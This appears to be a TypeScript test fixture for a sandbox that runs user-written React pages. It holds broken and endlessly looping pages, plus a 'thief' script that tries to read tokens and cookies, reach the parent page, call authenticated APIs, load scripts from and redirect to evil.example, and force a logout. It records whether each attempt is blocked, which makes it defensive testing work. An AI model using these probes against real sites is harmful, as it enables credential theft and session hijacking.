/** Pages that do not work, or do not stop. */
export const broken: Record<string, string> = {
  'does not compile': 'export default function () {\n  return <p>;\n}',
  'throws at once': 'throw new Error("no")',
  'throws when it renders': 'export default function LiveStock() { return missing; }',
  'throws when its data changes': `export default function LiveStock({ stock }) {
    const [late, setLate] = React.useState(false);
    React.useEffect(() => void setTimeout(() => setLate(true), 500), []);
    if (late) throw new Error('late');
    return <p>fine</p>;
  }`,
  'throws when it mounts itself':
    'ReactDOM.createRoot(document.getElementById("root")).render(React.createElement(() => missing));',
  'exports no component': 'const answer = 42;',
  'shows nothing': 'ReactDOM.createRoot(document.getElementById("root"));',
  'imports a missing module': 'import x from "lodash"; export default () => <p>{x}</p>',
  'loops while it starts': 'for (;;) {}',
  'loops while it renders': 'export default function LiveStock() { while (true); }',
  'loops in promises': `const again = () => Promise.resolve().then(again); again(); export default () => <p>fine</p>;`,
  'recurses endlessly in effects': `export default function LiveStock() {
    const [n, setN] = React.useState(0);
    React.useLayoutEffect(() => setN(n + 1));
    return <p>{n}</p>;
  }`,
  'loops in generated code': 'new Function("for (;;) {}")()',
  'loops later in generated code': `setTimeout(new Function("for (;;) {}"), 500);
    export default function LiveStock() { return <p>fine</p>; }`,
  'leaves for another page': `setTimeout(() => { location.href = '/dashboard'; }, 300); export default () => <p>fine</p>`,
  'leaves for another host': `location.href = 'https://evil.example/'; export default () => <p>fine</p>`,
  'floods the page around it': `const post = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...all) { window.port = this; return post.apply(this, all); };
    const flood = () => { for (let n = 0; n < 300; n++) parent.postMessage('x', '*'); };
    setInterval(flood, 10);
    export default () => <p>fine</p>;`,
  'reloads again and again': 'setTimeout(() => location.reload(), 200); export default () => <p>fine</p>;',
};

/** What `thief` logs once it has tried everything. Evaluating code in its page before would count as a click, and help it. */
export const everythingTried = 'everything was tried';

/** Each line tries something and says how that went. */
export const thief = `
  const tries = {
    localStorage: () => localStorage.getItem('token'),
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error); }),
    caches: () => caches.keys(),
    readCookie: () => document.cookie,
    setCookie: () => { document.cookie = 'evil=1'; },
    origin: () => { if (self.origin === 'null') throw new Error('opaque'); },
    parentDocument: () => parent.document.title,
    parentStorage: () => parent.localStorage.token,
    topDocument: () => top.document.body,
    frameElement: () => { if (!window.frameElement) throw new Error('none'); },
    api: () => fetch('/api/user/me', { credentials: 'include' }),
    apiFull: () => fetch(location.origin + '/api/settings'),
    save: () => fetch('/api/save-custom-code', { method: 'POST', body: '""', credentials: 'include', mode: 'no-cors' }),
    elsewhere: () => fetch('https://evil.example/'),
    xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '/api/config'); x.onload = yes; x.onerror = no; x.send(); }),
    beacon: () => { if (!navigator.sendBeacon('/api/auth/logout')) throw new Error('no'); throw new Error('queued'); },
    socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://' + location.host + '/ws/chat'); s.onopen = yes; s.onerror = no; }),
    events: () => new Promise((yes, no) => { const s = new EventSource('/sse/chat'); s.onopen = yes; s.onerror = no; }),
    worker: () => new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = yes; w.onerror = no; }),
    serviceWorker: () => navigator.serviceWorker.register('/vendor/frame.js'),
    parentLocation: () => { parent.location.href = 'https://evil.example/'; },
    topLocation: () => { top.location = '/dashboard'; },
    topReplace: () => { top.location.replace('https://evil.example/'); },
    openTop: () => { if (!Window.prototype.open) throw 1; const w = document.createElement('iframe'); document.body.append(w); if (!w.contentWindow.open('https://evil.example/', '_top')) throw new Error('refused'); },
    popup: () => { const w = document.createElement('iframe'); document.body.append(w); if (!w.contentWindow.open('https://evil.example/')) throw new Error('refused'); },
    alert: () => { if (window.confirm('?') === false) throw new Error('no dialogs'); },
    foreignScript: () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; s.onload = yes; s.onerror = no; document.head.append(s); }),
    nestedFrame: () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = '/dashboard'; f.onload = () => { try { f.contentWindow.location.href === 'about:blank' ? no(1) : yes(); } catch (e) { f.contentWindow.length; no(e); } }; document.body.append(f); setTimeout(no, 1500); }),
  };
  function clickTop(tag, set) { const e = document.createElement(tag); set(e); document.body.append(e); return e; }
  const clicked = new Promise((done) => setTimeout(done, 100)).then(() => {
    clickTop('a', (a) => { a.href = 'https://evil.example/'; a.target = '_top'; }).dispatchEvent(new MouseEvent('click'));
    HTMLAnchorElement.prototype.click.call(clickTop('a', (a) => { a.href = '/dashboard'; a.target = '_parent'; }));
    clickTop('form', (f) => { f.action = '/api/auth/logout'; f.method = 'post'; f.target = '_top'; }).submit();
  });
  export default function LiveStock() {
    const [said, setSaid] = React.useState({});
    React.useEffect(() => {
      const ends = Object.entries(tries).map(([name, attempt]) =>
        Promise.resolve().then(attempt).then(
          () => setSaid((all) => ({ ...all, [name]: 'SUCCEEDED' })),
          () => setSaid((all) => ({ ...all, [name]: 'blocked' })),
        ),
      );
      Promise.all([clicked, ...ends]).then(() => console.info('${everythingTried}'));
    }, []);
    return <pre id="said">{JSON.stringify(said)}</pre>;
  }`;
